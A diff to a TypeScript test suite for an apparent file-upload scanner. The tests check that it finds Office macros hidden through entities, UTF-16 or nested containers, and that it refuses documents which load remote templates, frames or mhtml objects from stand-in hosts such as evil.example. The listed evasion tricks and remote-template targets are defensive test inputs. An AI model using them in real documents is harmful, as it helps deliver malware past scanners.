@@ -16,6 +16,7 @@ import {
 } from './documents-testing.ts'
 import { fileProblem } from './file-name.ts'
 import { inspectContent } from './inspect.ts'
+import { inspectCompound } from './inspect-compound.ts'
 import { unpackLimits } from './inspection-limits.ts'
 
 const problemOf = async (name: string, content: Buffer) =>
@@ -45,6 +46,21 @@ describe('macros are found by what they are', () => {
       async () => word({ 'word/embeddings/a.docx': await word({ 'word/a.bin': await macros() }) }),
     ],
     ['sheet.xlsx', 'of the kind before VBA', () => excel({ 'xl/macrosheets/sheet1.xml': '<macrosheet/>' })],
+    ['sheet.xlsx', 'a sheet before VBA, its type in entities', () => excelOf('&#115;')],
+    ['sheet.xlsx', 'a sheet before VBA, its type in other entities', () => excelOf('&#x73;')],
+    ['sheet.xlsx', 'a sheet before VBA, in UTF-16', () => excelOf('s', 'utf16le')],
+    ['sheet.xlsx', 'a sheet before VBA, in UTF-16 without a mark', () => excelOf('s', 'unmarked')],
+    ['sheet.xlsx', 'a sheet before VBA, in UTF-16 the other way round', () => excelOf('s', 'utf16be')],
+    ['letter.docx', 'in a document two deep', async () => nested(2, { 'word/a.bin': await macros() })],
+    ['letter.docx', 'in a document three deep', async () => nested(3, { 'word/a.bin': await macros() })],
+    [
+      'letter.docx',
+      'in a document in an old container inside',
+      async () => {
+        const inner = await word({ 'word/a.bin': await macros() })
+        return word({ 'word/embeddings/oleObject1.bin': await compound({ '/Package': inner }) })
+      },
+    ],
     ['letter.doc', 'in an old document', () => oldDocument(vbaProject('/Macros'))],
     ['letter.doc', 'in an old document, elsewhere in it', () => oldDocument(vbaProject('/ObjectPool/_1'))],
     ['old.xls', 'in an old workbook', () => oldWorkbook(vbaProject('/_VBA_PROJECT_CUR'))],
@@ -52,6 +68,81 @@ describe('macros are found by what they are', () => {
     ['talk.ppt', 'in an old presentation', async () => oldPresentation(await macros())],
   ])('%s: %s', async (name, _what, make) => {
     expect(await problemOf(name, await make())).toBe('FILE_MACROS')
+  })
+})
+
+/** A workbook with a sheet of the older macros, whose type is written in a way of its own. */
+function excelOf(letter: string, encoding: 'utf8' | 'utf16le' | 'utf16be' | 'unmarked' = 'utf8') {
+  const part = `application/vnd.ms-excel.macro${letter}heet+xml`
+  const book = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'
+  const types = `<?xml version="1.0"?><Types><Override PartName="/xl/workbook.xml" ContentType="${book}"/><Override PartName="/xl/sheet1.xml" ContentType='${part}'/></Types>`
+  const wide = Buffer.from(`${encoding === 'unmarked' ? '' : '\ufeff'}${types}`, 'utf16le')
+  const content = encoding === 'utf8' ? Buffer.from(types) : encoding === 'utf16be' ? wide.swap16() : wide
+  return packed({ '[Content_Types].xml': content, 'xl/workbook.xml': '<workbook/>', 'xl/sheet1.xml': '<a/>' })
+}
+
+async function nested(depth: number, parts: Record<string, Buffer>): Promise<Buffer> {
+  const inner = depth === 1 ? await word(parts) : await nested(depth - 1, parts)
+  return word({ 'word/embeddings/a.docx': inner })
+}
+
+test('a newer document inside an old one is looked into, wherever it lies in it', async () => {
+  const inner = await word({ 'word/a.bin': await macros() })
+  const innocentOne = await oldDocument({ '/ObjectPool/_1/Package': await word() })
+  expect(await inspectCompound(await oldDocument({ '/ObjectPool/_1/Package': inner }))).toMatchObject({
+    flaw: 'macros',
+  })
+  expect(await inspectCompound(innocentOne)).toEqual({ kind: 'doc', flaw: null, caution: null })
+})
+
+test('what is nested deeper than anybody looks is refused', async () => {
+  expect(await problemOf('letter.docx', await nested(4, {}))).toBe('FILE_BROKEN')
+  expect(await problemOf('letter.docx', await nested(3, {}))).toBeNull()
+})
+
+describe('what a document loads from the web when it is opened', () => {
+  const relation = (type: string, target: string, mode = 'External') =>
+    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`
+  const withRelation = (type: string, target: string, mode?: string) =>
+    word({ 'word/_rels/settings.xml.rels': relation(type, target, mode) })
+
+  test.each([
+    ['attachedTemplate', 'https://evil.example/a.dotm'],
+    ['attachedTemplate', 'ht&#116;ps://evil.example/a.dotm'],
+    ['attachedTemplate', ' HTTP://evil.example/a.dotm'],
+    ['attachedTemplate', '\\\\evil.example@SSL\\a.dotm'],
+    ['attachedTemplate', 'file://evil.example@80/a.dotm'],
+    ['oleObject', 'mhtml:https://evil.example/a.html!x-usc:https://evil.example/a.html'],
+    ['oleObject', 'https://evil.example/a.html!'],
+    ['frame', 'https://evil.example/'],
+    ['subDocument', 'https://evil.example/a.docx'],
+    ['aFChunk', 'https://evil.example/a.html'],
+  ])('refuses it: %s %s', async (type, target) => {
+    expect(await problemOf('letter.docx', await withRelation(type, target))).toBe('FILE_REMOTE')
+    const inside = await word({ 'word/embeddings/a.docx': await withRelation(type, target) })
+    expect(await problemOf('letter.docx', inside)).toBe('FILE_REMOTE')
+  })
+
+  test('refuses it in UTF-16, and a part that says what every entity means', async () => {
+    const parts = relation('attachedTemplate', 'https://evil.example/a.dotm')
+    const wide = Buffer.from(`\ufeff${parts}`, 'utf16le')
+    expect(await problemOf('letter.docx', await word({ 'word/_rels/a.xml.rels': wide }))).toBe('FILE_REMOTE')
+    const tricky = `<!DOCTYPE a [<!ENTITY t "https://evil.example/a.dotm">]>${relation('attachedTemplate', '&t;')}`
+    expect(await problemOf('letter.docx', await word({ 'word/_rels/a.xml.rels': tricky }))).toBe(
+      'FILE_BROKEN',
+    )
+  })
+
+  test.each([
+    ['attachedTemplate', 'file:///C:\\Users\\ada\\Templates\\Letter.dotx'],
+    ['attachedTemplate', 'file:///\\\\fs01\\templates\\Letter.dotx'],
+    ['attachedTemplate', 'Letter.dotx'],
+    ['hyperlink', 'https://rd.usda.gov'],
+    ['hyperlink', 'mailto:ada@bank.example'],
+    ['image', 'https://bank.example/logo.png'],
+    ['externalLinkPath', 'Budget%202026.xlsx'],
+  ])('takes what people write every day: %s %s', async (type, target) => {
+    expect(await problemOf('letter.docx', await withRelation(type, target))).toBeNull()
   })
 })
 
